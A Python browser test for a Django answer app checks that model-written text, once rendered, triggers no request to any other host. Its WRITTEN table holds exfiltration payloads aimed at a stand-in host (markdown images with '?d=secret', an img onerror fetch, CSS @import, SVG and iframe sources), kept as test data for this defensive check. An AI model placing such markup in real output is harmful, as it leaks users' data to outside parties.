"""Whatever a model writes, the browser that shows it asks no other host for anything."""

from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest
from django.template.loader import render_to_string
from markdown_it import MarkdownIt

from archivebrain.answering.types import AnswerSentence
from archivebrain.providers.drafting import from_markers

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

pytestmark = [pytest.mark.browser, pytest.mark.real_sockets]

WRITTEN = {
    "a picture": "A promise [S1]. ![pixel](https://collect.example/p?d=secret)",
    "a picture by reference": "A promise [S1].\n\n![x][p]\n\n[p]: https://collect.example/?q=secret",
    "a tag with a script": (
        'A promise [S1]<img src="https://collect.example/x" onerror="fetch(\'https://collect.example\')">'
    ),
    "a style": "A promise [S1] <style>@import 'https://collect.example/s.css';</style>",
    "a drawing": '<svg><image href="https://collect.example/i.png"/></svg>\n\nA promise [S1].',
    "a frame": 'A promise [S1].\n\n<iframe src="https://collect.example/f"></iframe>',
}


def drawn(written: str) -> str:
    """The model's text as a reader's page has it, without the policy that guards the page."""
    sentences = from_markers(written, source_count=1).sentences
    return "".join(
        render_to_string("answers/_sentence.html", {"sentence": AnswerSentence(said.text, ())})
        for said in sentences
    )


def believed(written: str) -> str:
    """The control: the model's text taken at its word."""
    return str(MarkdownIt("commonmark", {"html": True}).render(written))


@pytest.mark.parametrize(("draw", "asks"), [(drawn, False), (believed, True)])
@pytest.mark.parametrize("written", WRITTEN.values(), ids=WRITTEN.keys())
def test_no_other_host_is_asked(
    browser: "Browser", written: str, draw: Callable[[str], str], asks: bool
) -> None:
    asked: list[str] = []

    def note(route: "Route") -> None:
        asked.append(route.request.url)
        route.abort()

    page = browser.new_page()
    page.route("**/*", note)
    html = draw(written)

    page.set_content(html, wait_until="load")
    page.wait_for_timeout(50)
    links = page.locator("a").count()
    page.close()

    assert "promise" in html
    assert bool(asked) is asks
    assert asks or links == 0
